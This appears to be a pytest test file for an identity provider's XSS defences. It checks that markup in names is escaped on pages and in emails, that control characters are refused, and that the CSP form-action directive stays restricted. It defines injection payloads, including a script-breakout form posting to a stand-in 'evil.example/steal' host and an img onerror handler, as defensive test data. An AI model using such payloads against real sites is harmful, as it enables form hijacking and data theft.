"""Markup in a name is only ever text: on every page that shows it (the passkey set-up page puts it
inside a <script> block), in every email (HTML and text), and the pages' CSP lets forms post only
to this provider (plus, during a sign-in for a service, that service's own redirect origin).
Control characters are refused wherever a name comes in."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from tests.support import make_account, make_client, pkce_pair

# one backend: how a name is escaped in pages and emails: not storage
pytestmark = pytest.mark.one_backend

EVIL = "</script><form action=https://evil.example/steal method=post><input name=q>"
EVIL_FAMILY = '<img src=x onerror="alert(1)">'


class Elements(HTMLParser):
    """Every element of a page, as the browser's parser would see them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_inert(page: str, where: str) -> None:
    for tag, attrs in Elements(page).found:
        assert not (tag == "form" and "evil.example" in (attrs.get("action") or "")), f"{where}: live form"
        assert "onerror" not in attrs, f"{where}: live event handler"
        assert tag != "img" or attrs.get("src") != "x", f"{where}: live image"
    assert "<form action=https://evil.example" not in page, where


def test_markup_in_a_name_is_inert_on_every_page(mail_app, smtp, browser, kit):
    app = mail_app
    with app.app_context():
        make_account("eo@centre.example", given_name=EVIL, family_name=EVIL_FAMILY)
        make_account("new@centre.example", given_name=EVIL, family_name=EVIL_FAMILY, mfa=False)

    person = browser(app)
    assert person.sign_in_fully("eo@centre.example", "correct horse battery staple").location.endswith("/account")
    pages = ["/account", "/account/profile", "/account/mfa", "/account/mfa/add", "/account/mfa/add/webauthn",
             "/account/mfa/add/totp", "/account/mfa/verify"]
    for path in pages:
        response = person.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert_inert(response.get_data(as_text=True), path)
    setup = person.get("/account/mfa/add/webauthn").get_data(as_text=True)
    options = re.search(r'id="webauthn-options">(.*?)</script>', setup, re.S).group(1)
    assert "\\u003c/script\\u003e" in options  # the name is there, as JSON-escaped text

    newcomer = browser(app)
    assert newcomer.sign_in("new@centre.example", "correct horse battery staple").location.endswith(
        "/signin/mfa/setup")
    for path in ("/signin/mfa/setup", "/signin/mfa/setup/webauthn", "/signin/mfa/setup/totp"):
        assert_inert(newcomer.get(path).get_data(as_text=True), path)


def test_markup_in_a_name_is_inert_in_every_email(mail_app, smtp, browser, kit):
    app = mail_app
    with app.app_context():
        make_account("eo@centre.example")
        make_account("ada@centre.example", given_name=EVIL, family_name=EVIL_FAMILY)
    kit.invite(app, "new@centre.example", given_name=EVIL, family_name=EVIL_FAMILY)
    person = browser(app)
    person.forgot("ada@centre.example")
    attacker = browser(app)
    attacker.begin("ada@centre.example")
    for n in range(3):
        attacker.password(f"wrong-guess-{n}")
    received = [smtp.take("new@centre.example", kit.INVITE_SUBJECT), smtp.take("ada@centre.example", kit.RESET_SUBJECT),
                smtp.take("ada@centre.example", kit.LOCKED_SUBJECT)]
    for mail in received:
        html = mail.message.get_body(("html",)).get_content()
        assert_inert(html, mail.subject)
        assert "&lt;/script&gt;" in html or "&lt;/script>" in html, mail.subject
        assert EVIL in mail.text  # plain text stays plain: the name as typed, nothing to render


@pytest.mark.parametrize("bad", ["Ada\x00", "Ada\nLovelace", "Ada\u202eecalevol", "A\x7f"])
def test_control_characters_in_a_name_are_refused(mail_app, browser, kit, bad):
    app = mail_app
    with app.app_context():
        make_account("eo@centre.example")
    person = browser(app)
    person.sign_in_fully("eo@centre.example", "correct horse battery staple")
    response = person.submit("/account/profile", {"given_name": bad, "family_name": "Lovelace", "language": "en"})
    assert response.status_code == 400
    assert any("cannot be used here" in m for m in kit.messages(response)), kit.messages(response)
    assert kit.account_row(app, "eo@centre.example")["given_name"] == "Ada"


def test_forms_post_only_here_and_to_the_waiting_service(app, client):
    with app.app_context():
        make_account()
        rp = make_client(redirect_uri="https://results.example/cb")
    plain = client.get("/signin")
    assert "form-action 'self';" in plain.headers["Content-Security-Policy"]
    _, challenge = pkce_pair()
    started = client.get("/authorize", query_string={
        "response_type": "code", "client_id": rp.client_id, "redirect_uri": rp.redirect_uri, "scope": "openid",
        "state": "s", "code_challenge": challenge, "code_challenge_method": "S256"})
    authreq = re.search(r"authreq=([^&]+)", started.location).group(1)
    page = client.get(f"/signin?authreq={authreq}")
    from tests.support import _csrf

    client.post("/signin", data={"email": "eo@centre.example", "authreq": authreq, "csrf_token": _csrf(page.get_data(as_text=True))})
    password_page = client.get("/signin/password")
    policy = password_page.headers["Content-Security-Policy"]
    assert "form-action 'self' https://results.example;" in policy, policy
    assert " https:;" not in policy and "http://localhost:*" not in policy
